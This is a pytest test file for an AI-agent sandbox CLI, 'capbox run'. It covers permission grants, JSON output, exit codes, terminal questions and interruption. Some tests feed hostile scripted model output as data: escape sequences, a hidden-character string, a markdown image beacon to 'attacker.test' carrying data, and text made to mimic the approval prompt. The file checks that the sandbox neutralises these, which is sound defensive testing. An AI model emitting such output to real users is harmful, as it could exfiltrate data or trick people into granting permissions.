"""`capbox run`: told to a person, printed as JSON, asked about at a terminal, interrupted."""

from __future__ import annotations

import json
import random
import shlex
import signal
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from capbox.store.journal import read, runs

LOOK = {"text": "Looking.", "tool_calls": [{"name": "read", "arguments": {"path": "a.txt"}}]}
WRITE = {"tool_calls": [{"name": "write", "arguments": {"path": "new.txt", "content": "x\n"}}]}
OUTSIDE = {"tool_calls": [{"name": "write", "arguments": {"path": "/etc/x", "content": "x"}}]}
SLEEP = {"text": "Waiting.", "tool_calls": [{"name": "bash", "arguments": {"script": "sleep 100"}}]}
DONE = {"text": "Done."}


def test_a_run_is_told_with_text_apart_from_everything_else(
    capbox: Callable, script: Callable, workspace: Path
) -> None:
    model = script(LOOK, WRITE, OUTSIDE, DONE)
    done = capbox("run", "t", "--model", model, "--workspace", workspace, "--write", ".")
    assert (done.code, done.out) == (0, "Looking.\nDone.\n")
    lines = done.err.splitlines()
    assert lines[0].startswith("  read   a.txt  ok, ")
    assert lines[1].startswith("  write  new.txt  ok, ")
    assert lines[2:4] == ["  write  /etc/x  denied: write /etc/x", ""]
    assert lines[4:8] == [
        "create   /workspace/new.txt  2 B",
        "denied: write /etc/x: no grant covers it",
        "to allow it, add: --write /etc/x",
        "completed",
    ]
    assert lines[8].startswith("4 turns, 3 tool calls, 0 tokens, 0.0000 USD, ")
    assert lines[9].startswith("on record: capbox audit show ")
    assert capbox("audit", "show", lines[9].split()[-1]).code == 0


def test_json_is_the_documented_object(capbox: Callable, script: Callable, workspace: Path) -> None:
    done = capbox(
        "run", "t", "--model", script(LOOK, WRITE, DONE), "--workspace", workspace,
        "--read", "a.txt", "--json",
    )  # fmt: skip
    found = done.json
    assert (done.code, done.err) == (0, "")
    assert list(found) == ["outcome", "text", "run", "denied", "effects", "spent"]
    assert (found["outcome"], found["text"]) == ("completed", "Done.")
    assert [denial["flag"] for denial in found["denied"]] == ["--write new.txt"]
    assert [(e["action"], e["path"]) for e in found["effects"]] == [("read", "/workspace/a.txt")]


def test_stream_json_is_one_event_a_line(
    capbox: Callable, script: Callable, workspace: Path
) -> None:
    done = capbox(
        "run", "t", "--model", script(LOOK, DONE), "--workspace", workspace, "--stream-json"
    )
    events = [json.loads(line) for line in done.out.splitlines()]
    assert (events[0]["type"], events[-1]["type"]) == ("run_started", "run_finished")
    assert [e["result"]["denied"][0]["flag"] for e in events if e["type"] == "tool_finished"] == [
        "--read a.txt"
    ]


def test_without_grants_and_nobody_there_it_runs_and_says_which_flags_to_add(
    capbox: Callable, script: Callable, workspace: Path
) -> None:
    done = capbox("run", "t", "--model", script(LOOK, WRITE, DONE), "--workspace", workspace)
    assert done.code == 0
    assert done.err.startswith("nothing is granted, so no file can be read or written; ")
    assert "to allow it, add: --read a.txt --write new.txt\n" in done.err
    quiet = capbox(
        "run", "t", "--model", script(DONE), "--workspace", workspace, "--preset", "none"
    )
    assert "nothing is granted" not in quiet.err
    # Somebody may lend what is missing, or has for always.
    asked = ("--workspace", workspace, "--ask-remote", "1")
    lent = capbox("run", "t", "--model", script(DONE), *asked)
    assert "nothing is granted" not in lent.err


@pytest.mark.parametrize(
    ("flags", "complaint"),
    [
        ([], "capbox: which model? "),
        (["--model", "what"], "capbox: --model: 'what' names no model: "),
        (["--model", "openai/gpt-x"], "capbox: --model: openai/gpt-x needs an API key"),
        (["--model", "scripted:/none.json"], "capbox: --model: "),
        (["--model", "MODEL", "--tool", "none"], "capbox: --tool none: there is no such tool"),
        (["--model", "MODEL", "--max-turns", "-1"], "capbox: --max-turns -1: a bound is from 0"),
        (
            ["--model", "MODEL", "--budget-usd", "nan"],
            "capbox: --budget-usd nan: a bound is from 0",
        ),
        (["--model", "MODEL", "--limit", "x=1"], "capbox: --limit x=1: unknown key"),
        (["--model", "MODEL", "--ask"], "capbox: --ask needs a terminal"),
        (["--model", "MODEL", "--base-url", "http://x"], "capbox: --model: a scripted model"),
    ],
)
def test_what_is_asked_for_wrongly_is_exit_2(
    flags: list[str], complaint: str, capbox: Callable, script: Callable, workspace: Path
) -> None:
    model = script(DONE)
    given = [model if flag == "MODEL" else flag for flag in flags]
    done = capbox("run", "t", "--workspace", workspace, "--preset", "none", *given)
    assert (done.code, done.out) == (2, "")
    assert done.err.startswith(complaint)
    in_json = capbox("run", "t", "--workspace", workspace, *given, "--json")
    assert (in_json.code, in_json.json["outcome"]) == (2, "usage")


@pytest.mark.parametrize(
    ("flags", "outcome", "code"),
    [
        (["--max-turns", "1"], "turn_limit", 4),
        (["--max-tool-calls", "0"], "tool_call_limit", 4),
        (["--budget-usd", "0"], "budget_exceeded", 4),
        (["--limit", "tokens=0"], "token_limit", 4),
        (["--limit", "run_seconds=0"], "time_limit", 4),
        ([], "model_failed", 1),
    ],
)
def test_a_run_exits_by_its_outcome(
    flags: list[str],
    outcome: str,
    code: int,
    capbox: Callable,
    script: Callable,
    workspace: Path,
) -> None:
    model = script(LOOK, LOOK)  # and then the script is out of replies
    done = capbox("run", "t", "--model", model, "--workspace", workspace, *flags, "--json")
    assert (done.code, done.json["outcome"], done.json["error"]["code"]) == (code, outcome, outcome)


def test_only_the_named_tools_are_offered(
    capbox: Callable, script: Callable, workspace: Path
) -> None:
    done = capbox(
        "run", "t", "--model", script(DONE), "--workspace", workspace, "--write", ".",
        "--tool", "read", "--tool", "glob", "--stream-json",
    )  # fmt: skip
    assert json.loads(done.out.splitlines()[0])["tools"] == ["glob", "read"]


def test_what_the_model_writes_cannot_act_on_the_terminal(
    person: Callable, script: Callable
) -> None:
    evil = "\x1b[2J\u202e\u200b![x](https://attacker.test/?d=S)"
    model = script(
        {"text": evil, "tool_calls": [{"name": evil, "arguments": {"path": evil}}]},
        {"text": "", "tool_calls": [{"name": "read", "arguments": {"path": evil}}]},
        {"text": evil},
    )
    code, seen = person("run", "t", "--model", model, "--preset", "none", "--no-ask").leaves()
    assert code == 0
    assert "\\x1b[2J\\u202e\\u200b(image: x, attacker.test: https://attacker.test/?d=S)" in seen
    assert "\x1b" not in seen
    assert "\u202e" not in seen


def test_at_a_terminal_it_opens_with_one_question_and_asks_for_what_is_missing(
    person: Callable, script: Callable, workspace: Path
) -> None:
    somebody = person("run", "t", "--model", script(LOOK, WRITE, DONE))
    somebody.waits_for("this folder: [r]ead [e]dit [c]ustom [n]othing; remember?")
    somebody.types("r!\n")
    somebody.waits_for("write /workspace/new.txt")
    somebody.waits_for("[s]top: ")
    somebody.types("o\n")
    code, seen = somebody.leaves()
    assert code == 0
    assert "yes, once\n  write  new.txt  ok, " in seen
    assert (workspace / "new.txt").read_text() == "x\n"
    again = person("run", "t", "--model", script(WRITE, DONE))
    again.waits_for(f"{workspace}: it may read this folder (remembered; ")
    again.waits_for("[s]top: ")
    again.types("s\n")
    code, seen = again.leaves()
    assert (code, "stopped_by_person" in seen) == (3, True)


def test_a_question_stays_the_last_thing_on_the_screen_until_it_is_answered(
    person: Callable, script: Callable, workspace: Path, environ: Mapping[str, str]
) -> None:
    """Results are told in order: all wait for the first, and then come while somebody is asked."""
    (workspace / "docs").mkdir()
    letters = random.Random(1)
    lines = ("".join(letters.choices("abcd", k=250)) for _ in range(4_000))
    (workspace / "docs" / "slow.txt").write_text("".join(f"x{line}\n" for line in lines))
    fake = "[o]k show it [n]o thanks (one letter, Enter):"
    slow = {"pattern": "(.|ab|ba)*x(.|ab){200}[x-z]", "path": "docs/slow.txt"}
    calls = [
        {"name": "grep", "arguments": slow},
        *({"name": "glob", "arguments": {"pattern": f"{fake} {n}"}} for n in range(30)),
        {"name": "read", "arguments": {"path": "a.txt"}},
    ]
    model = script({"text": "Looking.", "tool_calls": calls}, DONE)
    somebody = person("run", "t", "--model", model, "--read", "docs")
    somebody.waits_for("[s]top: ")
    journal = Path(environ["CAPBOX_HOME"], "state", "journal")

    def all_others_ended() -> bool:
        found = [r.content or {} for run in runs(journal) for r in read(journal, run)]
        return sum(one["kind"] == "outcome" for one in found) == len(calls) - 1

    somebody.waits_until(all_others_ended)
    somebody.types("n\n")
    code, seen = somebody.leaves()
    assert code == 0
    answered = "[s]top: n\n  no: refused by the person who was asked\n"
    assert answered in seen
    assert seen.count(fake) == 30


def test_at_a_terminal_with_no_ask_nobody_is_asked(person: Callable, script: Callable) -> None:
    code, seen = person("run", "t", "--model", script(LOOK, DONE), "--no-ask").leaves()
    assert (code, "[n]o" in seen) == (0, False)
    assert "to allow it, add: --read a.txt" in seen


def test_at_a_limit_a_person_is_asked_for_more(person: Callable, script: Callable) -> None:
    somebody = person(
        "run", "t", "--model", script(LOOK, LOOK, DONE), "--read", ".", "--max-turns", "1"
    )
    somebody.waits_for("all 1 turns are used. As much again? [y/N] ")
    somebody.types("y\n")
    somebody.waits_for("all 2 turns are used. As much again? [y/N] ")
    somebody.types("\n")
    code, seen = somebody.leaves()
    assert (code, "turn_limit: all 2 turns are used" in seen) == (4, True)


@pytest.mark.parametrize("shape", [[], ["--json"], ["--stream-json"]])
def test_ctrl_c_ends_a_run_with_130_and_still_reports_it(
    shape: list[str], person: Callable, process: Callable, script: Callable, begun: Callable
) -> None:
    somebody = person("run", "t", "--model", script(SLEEP, DONE), "--preset", "none", *shape)
    if shape == ["--json"]:
        somebody.waits_until(begun)  # nothing is told before the end
    else:
        somebody.waits_for("Waiting.")
    somebody.types("\x03")
    code, seen = somebody.leaves()
    assert code == 130
    assert "cancelled" in seen
    assert process("audit", "verify").out == "1 runs: 1 closed, 0 open, 0 broken\n"


def test_ctrl_c_answers_a_question_with_the_end_of_the_run(
    person: Callable, script: Callable
) -> None:
    somebody = person("run", "t", "--model", script(LOOK, DONE), "--preset", "none")
    somebody.waits_for("[s]top: ")
    somebody.types("\x03")
    code, seen = somebody.leaves()
    assert (code, "cancelled: interrupted" in seen) == (130, True)


def test_ctrl_c_at_the_opening_question_starts_nothing(
    person: Callable, process: Callable, script: Callable
) -> None:
    somebody = person("run", "t", "--model", script(DONE))
    somebody.waits_for("remember?")
    somebody.types("\x03")
    assert somebody.leaves()[0] == 130
    assert process("audit", "list").err == "no run is on record yet\n"


def test_a_second_ctrl_c_ends_everything_at_once_and_leaves_an_open_prefix(
    person: Callable, process: Callable, script: Callable
) -> None:
    somebody = person("run", "t", "--model", script(LOOK, DONE), "--preset", "none")
    somebody.waits_for("[s]top: ")
    somebody.process.send_signal(signal.SIGINT)
    somebody.process.send_signal(signal.SIGINT)
    assert somebody.leaves()[0] == 130
    assert process("audit", "verify").code == 0


def test_the_advice_on_a_tool_that_the_preset_leaves_out_can_be_followed(
    capbox: Callable, script: Callable, workspace: Path
) -> None:
    write = {"tool_calls": [{"name": "write", "arguments": {"path": "w.txt", "content": "x"}}]}
    run = ("run", "t", "--workspace", workspace, "--preset", "read-only", "--write", "w.txt")
    refused = capbox(*run, "--model", script(write, DONE))
    assert "denied: tool write: no grant covers it" in refused.err
    (advice,) = [line for line in refused.err.splitlines() if line.startswith("to allow it, add: ")]
    flags = shlex.split(advice.removeprefix("to allow it, add: "))
    done = capbox(*run, *flags, "--model", script(write, DONE), "--stream-json")
    assert "write" in json.loads(done.out.splitlines()[0])["tools"]
    assert (done.code, (workspace / "w.txt").read_text()) == (0, "x")


def test_what_is_attached_is_read_before_anything_starts_and_told_if_it_is_not_shown(
    capbox: Callable, script: Callable, workspace: Path
) -> None:
    (workspace / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n...")
    model = script({"text": "A garden."})
    for file, code, told in (
        ("a.png", 0, "was left out: this model takes no images"),
        ("a.txt", 2, "--attach a.txt: is no PNG"),
        ("none.png", 2, "--attach none.png: No such file"),
    ):
        done = capbox(
            "run", "what is it?", "--model", model, "--workspace", workspace,
            "--attach", workspace / file,
        )  # fmt: skip
        assert done.code == code, done.err
        assert told in done.err.replace(f"{workspace}/", "")
